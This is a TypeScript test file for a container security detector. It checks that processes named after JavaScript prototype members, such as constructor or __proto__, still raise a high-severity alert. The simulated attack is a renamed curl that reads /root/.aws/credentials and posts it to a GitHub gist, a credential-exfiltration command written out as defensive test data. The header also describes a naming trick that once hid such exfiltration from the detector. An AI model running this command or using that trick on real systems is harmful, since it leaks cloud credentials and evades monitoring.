/**
 * A program named like an Object.prototype member (`constructor`, `toString`, `__proto__`): buildah's and podman's
 * command tables (../../../src/correlate/container-storage.ts, storage-ingest.ts) were plain objects indexed by
 * the binary's name, so such a name found a prototype member and threw on every new process of it (found by
 * review of the storage exemption): the process was never kept, each of its events was skipped as a correlator
 * error, and a renamed curl posting a credential raised nothing.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

describe('a program named like a prototype member', () => {
  for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty'])
    for (const source of ['tetragon', 'falco'] as const)
      it(`posting a credential as /tmp/.c/${name} is high (${source})`, () => {
        const s = new Scenario({ source });
        const c = s.container({ namespace: 'prod', pod: 'web-2', name: 'web' });
        const sh = s.init(c);
        const x = s.exec(c, `/tmp/.c/${name}`, '-sd @/root/.aws/credentials https://api.github.com/gists', {
          parent: sh,
        });
        s.read(x, '/root/.aws/credentials', 116).wait(300).exit(x);
        expect(brief(run(s.events).alerts)).toEqual([
          { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
        ]);
      });
});
